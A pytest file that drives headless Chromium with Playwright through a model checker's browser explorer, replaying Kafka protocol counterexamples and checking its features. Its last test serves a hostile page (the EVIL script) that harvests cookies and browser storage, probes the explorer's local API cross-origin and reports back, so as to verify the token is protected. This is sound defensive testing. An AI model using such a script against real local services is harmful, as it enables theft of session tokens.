"""`mc explore` in a real browser: Playwright drives Debian's chromium (its executable, nothing
downloaded) against `mc explore` run as a command. We click through the KAFKA-14139
counterexample, jump to a --json counterexample and back, find a reachability property, walk
to KIP-966's last-replica-standing data loss and reopen its URL, and show a result as a
notebook does. Screenshots go to build/ (explore-*.png)."""

from __future__ import annotations

import http.server
import json
import re
import subprocess
import threading
import urllib.request
from collections.abc import Iterator
from typing import ClassVar

import pytest

from checker.loader import load_model
from checker.local import bfs
from checker.reports import json_report
from checker.result import CheckResult, Step
from checker.testing import check
from checker.values import show
from tests.conftest import CHROMIUM, MC, ROOT, SPECS, finish, needs_chromium

sync_api = pytest.importorskip("playwright.sync_api", reason="the dev extra brings Playwright")
pytestmark = needs_chromium
BUILD = ROOT / "build"
FLAGS = [  # as tests/reports/test_browser.py runs it: no request leaves the machine
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
KIP903 = str(SPECS / "kip903.py")
KIP966 = str(SPECS / "kip966.py")


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    """Headless chromium (Playwright gives each launch a fresh profile folder)."""
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        yield launched
        launched.close()


@pytest.fixture
def page(browser) -> Iterator[object]:
    context = browser.new_context(viewport={"width": 1500, "height": 1000})
    opened = context.new_page()
    opened.set_default_timeout(30_000)
    yield opened
    context.close()


class Explorer:
    """`mc explore` running as a command, and the URL it printed."""

    def __init__(self, *args: str) -> None:
        self.proc = subprocess.Popen(
            [*MC, "explore", *args],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        line = self.proc.stdout.readline()
        if " at http://127.0.0.1:" not in line:
            self.close()
            raise AssertionError(f"mc explore did not start: {line}{self.proc.stderr.read()}")
        self.url = line.split(" at ")[1].strip()  # with this run's token
        self.base = self.url.split("#")[0]

    def close(self) -> None:
        self.proc.terminate()  # SIGTERM: mc stops as on Ctrl-C
        finish(self.proc, 20)


def counterexample(spec: str, **constants: str) -> CheckResult:
    result = bfs.check(load_model(spec, constants))
    assert result.verdict == "violation"
    return result


@pytest.fixture(scope="module")
def kip903(tmp_path_factory) -> Iterator[tuple[Explorer, CheckResult]]:
    """KAFKA-14139 (`mc check specs/kip903.py -D fixed=false`), and the explorer of that spec
    with its --json report as --trace."""
    result = counterexample(KIP903, fixed="false")
    report = tmp_path_factory.mktemp("explore") / "kip903.json"
    json_report.write(result, str(report))
    explorer = Explorer(KIP903, "-D", "fixed=false", "--trace", str(report))
    yield explorer, result
    explorer.close()


def wait_for_depth(page, depth: int) -> None:
    page.wait_for_selector(f'body[data-busy="false"][data-depth="{depth}"]')


def click_step(page, step: Step, depth: int) -> None:
    """Click the choice of `step` (its action and parameters) and wait for the next state."""
    params = ", ".join(f"{k}={show(v)}" for k, v in step.params.items())
    selector = f'li.choice[data-action="{step.action}"][data-params="{params}"] button'
    assert page.locator(selector).count() == 1, f"{step.action}({params}) is not enabled here"
    page.click(selector)
    wait_for_depth(page, depth + 1)


def check_value(page, kind: str, name: str) -> str:
    return page.get_attribute(f'li.check[data-kind="{kind}"][data-name="{name}"]', "data-value")


def shoot(page, name: str) -> None:
    BUILD.mkdir(exist_ok=True)
    page.screenshot(path=str(BUILD / f"explore-{name}.png"))


def test_clicking_through_kafka_14139_breaks_the_invariant_at_the_last_step(kip903, page):
    explorer, result = kip903
    page.goto(explorer.url)
    wait_for_depth(page, 1)
    assert page.url == explorer.base  # the token went to sessionStorage, not the address bar
    trace = result.trace
    for depth, step in enumerate(trace[1:], start=1):
        assert check_value(page, "invariant", result.invariant) == "true", depth
        click_step(page, step, depth)
    assert check_value(page, "invariant", result.invariant) == "false"
    violated = page.locator('li.check[data-kind="invariant"][data-value="false"]')
    assert violated.all_inner_texts() == [f"✗{result.invariant}"]
    assert page.inner_text("#verdict") == f"invariant {result.invariant} violated"
    # The chart grew a row per step and ends on the violation, as the HTML report's does.
    assert page.locator("#msc g.msc-row").count() == len(trace)
    assert page.locator("#msc g.msc-row.violated").get_attribute("data-step") == str(len(trace))
    assert page.locator("#state tr.changed").count() >= 1
    shoot(page, "kip903-violation")
    page.locator("#chart").scroll_into_view_if_needed()
    shoot(page, "kip903-chart")


def test_jump_to_the_json_counterexample_and_back(kip903, page):
    explorer, result = kip903
    page.goto(explorer.url)
    wait_for_depth(page, 1)
    click_step(page, result.trace[1], 1)
    before = page.get_attribute("body", "data-path")
    assert page.inner_text("#jump") == (
        f"Jump to the counterexample: invariant {result.invariant} is violated (kip903.json,"
        f" {len(result.trace)} states)"
    )
    page.click("#jump")
    wait_for_depth(page, len(result.trace))
    assert check_value(page, "invariant", result.invariant) == "false"
    steps = page.locator("#steps li").all_inner_texts()
    assert len(steps) == len(result.trace) and steps[-1].endswith(
        f"{result.trace[-1].action}(b={result.trace[-1].params['b']})"
    )
    page.click("#back")
    wait_for_depth(page, 2)
    assert page.get_attribute("body", "data-path") == before
    assert page.url.endswith(f"?path={before}")
    page.click("#forward")
    wait_for_depth(page, len(result.trace))
    full = page.get_attribute("body", "data-path")
    page.click('#msc g.msc-row[data-step="3"]')  # a row of the chart: back to that state
    wait_for_depth(page, 3)
    assert page.get_attribute("body", "data-path") == ",".join(full.split(",")[:3])


def test_find_a_reachability_property(kip903, page):
    explorer, _ = kip903
    model = load_model(KIP903, {"fixed": "false"}, invariants=[], symmetry=False)
    name = "replica_back_with_an_empty_log"
    witness = bfs.check(model, bfs.Options(witness=name, deadlock=False))
    page.goto(explorer.url)
    wait_for_depth(page, 1)
    assert check_value(page, "reachable", name) == "false"
    page.fill("#find-expr", f"self.{name}(s)")
    page.click("#find-go")
    page.wait_for_selector('#find-status[data-state="found"]')
    wait_for_depth(page, len(witness.trace))
    assert check_value(page, "reachable", name) == "true"
    assert page.inner_text("#find-status").startswith(
        f"found: self.{name}(s) holds in state {len(witness.trace)}"
    )
    shown = page.locator("#steps li").all_inner_texts()
    assert [re.sub(r"^\d+\s*", "", s) for s in shown[1:]] == [
        f"{s.action}({', '.join(f'{k}={show(v)}' for k, v in s.params.items())})"
        for s in witness.trace[1:]
    ]
    shoot(page, "kip903-find")
    page.fill("#find-expr", "s.nope ==")
    page.click("#find-go")
    page.wait_for_selector('#find-status[data-state="refused"]')
    assert page.inner_text("#find-status").startswith("find: invalid syntax")


def test_kip966_last_replica_standing_data_loss_by_clicking_and_by_its_url(browser, page):
    """The issue's "done when": walk to the data loss, then open the state's link afresh."""
    constants = {"fixed": "false", "data_loss_shutdown_limit": "1"}
    result = counterexample(KIP966, **constants)
    assert [s.action for s in result.trace][-4:] == [
        "data_loss_shutdown",
        "broker_start",
        "receive_broker_reg_request",
        "receive_broker_reg_response",
    ]
    explorer = Explorer(KIP966, *(a for k, v in constants.items() for a in ("-D", f"{k}={v}")))
    try:
        page.goto(explorer.url)
        wait_for_depth(page, 1)
        for depth, step in enumerate(result.trace[1:], start=1):
            click_step(page, step, depth)
        assert check_value(page, "invariant", result.invariant) == "false"
        link = page.input_value("#link")
        assert link.startswith(f"{explorer.base}?path=0,") and link == page.url
        shoot(page, "kip966-data-loss")
        # The link in a new tab opened from the explorer's (which gets a copy of its
        # sessionStorage, so the token); a tab of its own needs the printed URL.
        with page.expect_popup() as popup:
            page.evaluate("link => window.open(link)", link)
        again = popup.value
        wait_for_depth(again, len(result.trace))
        assert again.get_attribute("body", "data-path") == page.get_attribute("body", "data-path")
        assert check_value(again, "invariant", result.invariant) == "false"
        again.goto(f"{explorer.base}?path=0,write_record_to_leader.7")  # not a path of this spec
        again.wait_for_selector("#error:not([hidden])")
        assert again.inner_text("#error").startswith(
            "path 0,write_record_to_leader.7: step 2: write_record_to_leader has 2 bindings"
            " here, not 8"
        )
    finally:
        explorer.close()


def test_a_result_and_its_trace_show_as_the_html_report_in_a_notebook(page):
    result = check(str(SPECS / "light" / "kip903.py"), fixed=False, no_liveness=True)
    n = len(result.trace)
    for shown in (result, result.trace):
        page.set_content(shown._repr_html_())
        report = page.frame_locator("iframe")
        # The report's own script ran inside the sandboxed frame: the last step is selected.
        report.locator(f'body[data-selected="{n}"]').wait_for()
        assert report.locator("ol#steps li").count() == n
        assert report.locator("svg.msc g.msc-row").count() == n
    shoot(page, "notebook")


EVIL = """<!DOCTYPE html><html><body><script>
const target = 'http://127.0.0.1:%(port)d';
const said = {cookie: document.cookie,
              stored: JSON.stringify(sessionStorage) + JSON.stringify(localStorage)};
const body = JSON.stringify({expression: 'True'});
Promise.allSettled([
  fetch(target + '/api/find',
        {method: 'POST', headers: {'Content-Type': 'application/json'}, body}),
  fetch(target + '/api/find', {method: 'POST', mode: 'no-cors', body}),
  fetch(target + '/api/spec', {credentials: 'include'}),
  fetch(target + '/', {credentials: 'include'}).then(r => r.text()),
]).then(results => {
  said.results = results.map(r => r.status === 'fulfilled'
    ? (typeof r.value === 'string' ? 'text:' + r.value : 'status:' + r.value.status)
    : 'rejected');
  return fetch('/report', {method: 'POST', body: JSON.stringify(said)});
}).then(() => { document.body.setAttribute('data-done', 'true'); });
</script></body></html>"""


class _Evil(http.server.BaseHTTPRequestHandler):
    """Another local web server the user visits: its page tries the explorer."""

    seen: ClassVar[list[str]] = []  # every request's headers and body
    page = b""

    def log_message(self, *args):
        pass

    def do_GET(self):
        self.seen.append(str(self.headers))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.seen.append(str(self.headers) + body.decode())
        self.send_response(204)
        self.end_headers()


def test_a_page_of_another_local_port_gets_neither_the_token_nor_a_find(browser, page):
    """The user opens the explorer, then a page of another server on 127.0.0.1 in the same
    browser: no request to that server carries the token (no cookie: cookies go to every
    port), the page cannot read it (sessionStorage is the explorer's origin's), and its
    requests to the explorer's API get no 2xx: no find is started."""
    explorer = Explorer(str(SPECS / "examples" / "die_hard.py"))
    port = int(explorer.base.split(":")[2].strip("/"))
    token = explorer.url.split("#token=")[1]
    _Evil.page = (EVIL % {"port": port}).encode()
    _Evil.seen = []
    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    try:
        page.goto(explorer.url)
        wait_for_depth(page, 1)
        other = page.context.new_page()
        other.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
        other.wait_for_selector('body[data-done="true"]', state="attached")
        # The page's report is the one request with a body (a favicon's GET may come after).
        (report,) = [json.loads(b) for _, _, b in (r.partition("\n\n") for r in _Evil.seen) if b]
        assert token not in "".join(_Evil.seen)
        assert report["cookie"] == "" and token not in report["stored"]
        assert report["results"][0] == "rejected"  # its header needs a preflight we refuse
        assert report["results"][1] == "status:0"  # opaque; the server answered 403
        assert report["results"][2] == "rejected"
        assert token not in report["results"][3]
        spec = urllib.request.Request(f"{explorer.base}api/find", headers={"X-MC-Token": token})
        with urllib.request.urlopen(spec, timeout=10) as reply:
            assert json.loads(reply.read()) == {"state": "idle"}  # no find ever started
    finally:
        evil.shutdown()
        evil.server_close()
        explorer.close()
